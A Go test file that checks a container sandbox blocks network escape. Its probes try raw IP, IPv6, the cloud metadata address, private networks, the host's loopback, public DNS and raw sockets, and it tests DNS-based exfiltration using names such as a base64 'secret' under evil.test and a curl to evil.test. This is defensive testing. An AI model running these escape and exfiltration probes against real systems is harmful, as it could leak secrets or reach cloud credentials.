package container

import (
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"
)

// TestAttackAroundTheTunnel: a program that asks for no proxy and no name reaches
// nothing: no address of the internet, the host or the engine, by no protocol.
func TestAttackAroundTheTunnel(t *testing.T) {
	var reached atomic.Int32
	service, err := net.Listen("tcp", ":0") // of the host, at all its addresses
	if err != nil {
		t.Fatal(err)
	}
	defer service.Close()
	go func() {
		for {
			c, err := service.Accept()
			if err != nil {
				return
			}
			reached.Add(1)
			_ = c.Close()
		}
	}()
	port := service.Addr().(*net.TCPAddr).Port
	var hosts []string
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if ip := a.(*net.IPNet).IP; ip.To4() != nil && !ip.IsLoopback() {
			hosts = append(hosts, ip.String())
		}
	}
	if len(hosts) == 0 {
		t.Fatal("the host has no address but its loopback")
	}
	s, _ := connected(t, "exec", Spec{Image: baseImage(t)})
	const tcp = `import socket, sys
s = socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET); s.settimeout(5)
s.connect((sys.argv[1], int(sys.argv[2]))); print("through")`
	const udp = `import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(b"\x00\x07\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x04test\x00\x00\x01\x00\x01", (sys.argv[1], 53)); print("through")`
	const raw = `import socket
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print("through")`
	type attack struct{ name, program, address string }
	attacks := []attack{
		{"raw IP", tcp, "93.184.216.34 443"}, {"raw IPv6", tcp, "2606:2800:220:1::1 443"}, {"metadata address", tcp, "169.254.169.254 80"},
		{"metadata address of IPv6", tcp, "fd00:ec2::254 80"}, {"a private network", tcp, "10.0.0.1 22"},
		{"host's loopback", tcp, fmt.Sprintf("127.0.0.1 %d", port)}, {"host's loopback of IPv6", tcp, fmt.Sprintf("::1 %d", port)},
		{"name of the host", tcp, fmt.Sprintf("host.docker.internal %d", port)},
		{"DNS of a public resolver", udp, "8.8.8.8"}, {"raw sockets", raw, ""},
	}
	for _, host := range hosts {
		attacks = append(attacks, attack{"host, gateway " + host, tcp, fmt.Sprintf("%s %d", host, port)}, attack{"DNS of " + host, udp, host})
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			got := netShell(t, s, "cat >/tmp/a.py <<'END'\n"+a.program+"\nEND\npython3 /tmp/a.py "+a.address+" 2>&1 | tail -n 1")
			refused := false
			for _, why := range []string{"Network is unreachable", "Connection refused", "Cannot assign requested address", "Operation not permitted"} {
				refused = refused || strings.Contains(got, why)
			}
			if !refused {
				t.Errorf("got %q", got)
			}
		})
	}
	if n := reached.Load(); n != 0 {
		t.Errorf("the service of the host was reached %d times", n)
	}
	c, err := net.Dial("tcp", net.JoinHostPort(hosts[0], fmt.Sprint(port)))
	if err != nil {
		t.Fatalf("nobody could reach it: %v", err)
	}
	_ = c.Close()
	want(t, "interfaces", netShell(t, s, "ls /sys/class/net; wc -l </proc/net/route"), "lo\n1\n")
}

// TestAttackDNS: a name is answered inside, and carries nothing out of the sandbox.
func TestAttackDNS(t *testing.T) {
	s, f := connected(t, "exec", Spec{Image: baseImage(t)})
	taken := make(chan string, 64)
	f.sees(func(port int) { taken <- fmt.Sprint(port) })
	got := netShell(t, s, "for n in c2VjcmV0.evil.test a.b.c.d.evil.test; do getent ahosts $n >/dev/null && echo answered; done")
	want(t, "names", got, "answered\nanswered\n")
	want(t, "a request", netShell(t, s, "curl -sS http://evil.test/"), "GET evil.test tls=false\n")
	if first := <-taken; first != "80" || len(taken) != 0 {
		t.Errorf("out of the sandbox came port %s and %d more", first, len(taken))
	}
}
